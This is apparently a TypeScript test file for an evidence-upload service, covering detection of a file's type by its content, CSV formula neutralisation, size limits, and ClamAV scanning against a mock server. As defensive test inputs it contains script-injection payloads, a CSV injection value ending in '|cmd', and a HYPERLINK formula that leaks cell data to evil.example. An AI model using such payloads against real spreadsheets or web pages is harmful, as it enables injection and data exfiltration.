import { Document, Packer, Paragraph } from 'docx';
import { type Server, type Socket, createServer } from 'node:net';
import { once } from 'node:events';
import { test } from 'tap';
import type { EvidenceFileType } from '../../../src/domain/evidence/evidence.ts';
import { recognise } from '../../../src/features/evidence/file.ts';
import { clamdScanner } from '../../../src/scanner/clamd.ts';
import { openWorld } from '../../support/worlds/service.ts';
import { base, person } from '../../support/worlds/signed-off.ts';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const pdf = utf8('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF');
const docx = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Evidence')] }] }));

/** A zip of stored entries. */
function zip(entries: Readonly<Record<string, string>>): Uint8Array {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const [path, data] = [Buffer.from(name), Buffer.from(text)];
    const sizes = Buffer.alloc(14);
    sizes.writeUInt32LE(crc(data), 0);
    sizes.writeUInt32LE(data.length, 4);
    sizes.writeUInt32LE(data.length, 8);
    sizes.writeUInt16LE(path.length, 12);
    const head = Buffer.concat([Buffer.from('504b0304140000000000000000000'.padEnd(28, '0'), 'hex'), sizes, Buffer.alloc(2), path]);
    const at = Buffer.alloc(4);
    at.writeUInt32LE(offset);
    central.push(Buffer.concat([Buffer.from('504b010214001400000000000000000000'.slice(0, 32), 'hex'), sizes, Buffer.alloc(14), at, path]));
    parts.push(head, data);
    offset += head.length + data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(central.length, 8);
  end.writeUInt16LE(central.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

function crc(data: Buffer): number {
  let value = 0xffffffff;
  for (const byte of data) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

const office = 'application/vnd.openxmlformats-officedocument';
const contents = (type: string): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="${type}.main+xml"/></Types>`;
const xlsx = zip({ '[Content_Types].xml': contents(`${office}.spreadsheetml.sheet`), 'xl/workbook.xml': '<workbook/>' });

test('[EV7] the type of a file is found by its content', async (t) => {
  const rows: readonly (readonly [name: string, bytes: Uint8Array, type: EvidenceFileType, kept: string])[] = [
    ['survey.pdf', pdf, 'pdf', 'survey.pdf'],
    ['Chart.PNG', png, 'png', 'Chart.PNG'],
    ['photo.jpeg', jpeg, 'jpeg', 'photo.jpeg'],
    ['photo', jpeg, 'jpeg', 'photo.jpg'],
    ['letter.docx', docx, 'docx', 'letter.docx'],
    ['figures.xlsx', xlsx, 'xlsx', 'figures.xlsx'],
    ['figures.csv', utf8('council,families\nKent,212\n'), 'csv', 'figures.csv'],
    ['old excel.csv', Buffer.from('council;families\nCh\u00e2teau;212\n', 'latin1'), 'csv', 'old excel.csv'],
  ];
  for (const [name, bytes, type, kept] of rows) {
    const found = await recognise({ name, type: 'text/html', bytes });
    t.match(found, { ok: true, file: { name: kept, type } }, name);
    if (found.ok && type !== 'csv') t.same(Buffer.from(found.file.bytes), Buffer.from(bytes), `${name}: its bytes stay`);
    if (found.ok && type === 'csv') t.match(new TextDecoder().decode(found.file.bytes), /^\w+,families\r\n(?:Kent|Château),212\r\n$/, name);
  }
});

test('[EV7] a file that lies about its type is refused by name, and so are other kinds of files', async (t) => {
  const rows: readonly (readonly [name: string, bytes: Uint8Array, why: RegExp])[] = [
    ['report.pdf', png, /^“report\.pdf” says that it is \.pdf, but it is a PNG picture/],
    ['figures.xlsx', docx, /says that it is \.xlsx, but it is a Word document/],
    ['letter.docx', zip({ 'word/document.xml': '<x/>', 'readme.txt': 'x' }), /^“letter\.docx” is a file of another kind \(zip\)/],
    ['letter.docx', zip({ '[Content_Types].xml': contents('application/vnd.ms-word.document.macroEnabled') }), /another kind \(docm\)/],
    ['a.csv', utf8('<!doctype html><script>alert(1)</script>,x'), /^“a\.csv” is none of the kinds/],
    ['a.png', utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), /is (?:none of the kinds|a file of another kind)/],
    ['a.csv', utf8('one column\nof words\n'), /none of the kinds/],
    ['run.csv', Buffer.from('4d5a900003', 'hex'), /another kind \(exe\)/],
    ['notes.txt', utf8('a,b\n1,2\n'), /says that it is \.txt, but it is a CSV table/],
    ['empty.pdf', new Uint8Array(), /^“empty\.pdf” is empty/],
  ];
  for (const [name, bytes, why] of rows) {
    const found = await recognise({ name, type: 'application/pdf', bytes });
    t.match(found.ok ? 'taken' : found.wrong, why, `${name}: ${String(why)}`);
  }
});

test('[EV8] formulas in a CSV become texts; numbers, dashes and phone numbers stay', async (t) => {
  const csv = 'a;b;c\n=1+1;+44 1622 000000;-5\n@SUM(A1);-2+3|cmd;-\n"-12,5";"say ""hi""";–\n';
  const found = await recognise({ name: 'f.csv', type: '', bytes: utf8(csv) });
  if (!found.ok) throw new Error(found.wrong);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(found.file.bytes);
  t.equal(text, `\ufeffa,b,c\r\n'=1+1,+44 1622 000000,-5\r\n'@SUM(A1),'-2+3|cmd,-\r\n"-12,5","say ""hi""",–\r\n`);
});

test('[EV8] a CSV is written anew even where no cell looks like a formula: a program may part its cells elsewhere', async (t) => {
  const found = await recognise({ name: 'f.csv', type: '', bytes: utf8('a\tb\tc\nx,=HYPERLINK("http://evil.example/"&A1)\ty\tz\n') });
  if (!found.ok) throw new Error(found.wrong);
  const text = new TextDecoder().decode(found.file.bytes);
  t.equal(text, 'a,b,c\r\n"x,=HYPERLINK(""http://evil.example/""&A1)",y,z\r\n');
});

test('[SE11] a CSV of millions of cells is refused before it is read', async (t) => {
  const since = performance.now();
  const found = await recognise({ name: 'f.csv', type: '', bytes: utf8(`a,b\n${','.repeat(10_000_000)}`) });
  t.notOk(found.ok);
  t.ok(performance.now() - since < 3_000, 'at once');
});

/** A server that speaks clamd’s INSTREAM, and finds a virus in files with a word. */
async function clamd(t: { teardown(act: () => unknown): unknown }, answers?: (bytes: Buffer) => string): Promise<string> {
  const server: Server = createServer((socket) => void converse(socket, answers ?? verdict));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  t.teardown(() => server.close());
  const address = server.address();
  return `tcp://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`;
}

const verdict = (bytes: Buffer): string => (bytes.includes('EICAR') ? 'stream: Eicar-Test-Signature FOUND' : 'stream: OK');

async function converse(socket: Socket, answers: (bytes: Buffer) => string): Promise<void> {
  const command = 'zINSTREAM\0';
  let got = Buffer.alloc(0);
  socket.on('error', () => undefined);
  for await (const chunk of socket) {
    got = Buffer.concat([got, chunk as Buffer]);
    const bytes: Buffer[] = [];
    let at = command.length;
    while (got.length >= at + 4) {
      const size = got.readUInt32BE(at);
      if (size === 0) {
        socket.end(got.toString('latin1', 0, command.length) === command ? `${answers(Buffer.concat(bytes))}\0` : 'UNKNOWN COMMAND\0');
        return;
      }
      bytes.push(got.subarray(at + 4, at + 4 + size));
      at += 4 + size;
    }
  }
}

test('[EV9] clamd is asked about the whole file, over several chunks', async (t) => {
  const seen: number[] = [];
  const url = await clamd(t, (bytes) => {
    seen.push(bytes.length);
    return verdict(bytes);
  });
  const scanner = clamdScanner(url);
  t.same(await scanner.scan(new Uint8Array(200_000)), { found: 'nothing' });
  t.same(await scanner.scan(utf8(`${'x'.repeat(100_000)}EICAR`)), { found: 'virus', name: 'Eicar-Test-Signature' });
  t.same(seen, [200_000, 100_005]);
  t.match(await clamdScanner(await clamd(t, () => 'INSTREAM size limit exceeded. ERROR')).scan(png), {
    found: 'no answer',
    why: /size limit/,
  });
  t.match(await clamdScanner('tcp://127.0.0.1:1').scan(png), { found: 'no answer', why: /ECONNREFUSED/ });
});

test('[EV9] an infected file is refused by name; while clamd is away no file is taken; the page says when there is none', async (t) => {
  const world = await openWorld(t, { clamavUrl: await clamd(t) });
  const away = await openWorld(t, { clamavUrl: 'tcp://127.0.0.1:1' });
  const none = await openWorld(t);
  const here = `${base}/evidence/new`;
  const fields = { text: 'What we found', label: 'shareable' };
  const infected = new File(['a,b\nEICAR,1\n'], 'invoice.csv');
  const kent = await person(world, 'daniel-rowntree');
  t.notMatch((await kent.get(here)).body, 'virus scanner');
  const refused = await kent.send(here, { ...fields, nonce: 'n1', file: infected });
  t.match(refused, { status: 400, body: /“invoice\.csv” was not taken: the virus scanner found Eicar-Test-Signature in it/ });
  t.equal((await kent.send(here, { ...fields, nonce: 'n2', file: new File(['a,b\n10,20\n'], 'clean.csv') })).status, 303);
  const there = await person(away, 'daniel-rowntree');
  await there.get(here);
  t.match(await there.send(here, { ...fields, nonce: 'n3', file: new File(['a,b\n10,20\n'], 'clean.csv') }), {
    status: 400,
    body: /“clean\.csv” was not taken: the virus scanner does not answer/,
  });
  t.equal((await there.send(here, { ...fields, nonce: 'n4' })).status, 303, 'evidence without a file is taken');
  t.match((await (await person(none, 'daniel-rowntree')).get(here)).body, 'none is set up');
  const stored = await world.services.aggregates.find('evidence', { where: {} });
  t.same(
    stored.map(({ state }) => state.file?.name),
    ['clean.csv'],
  );
});
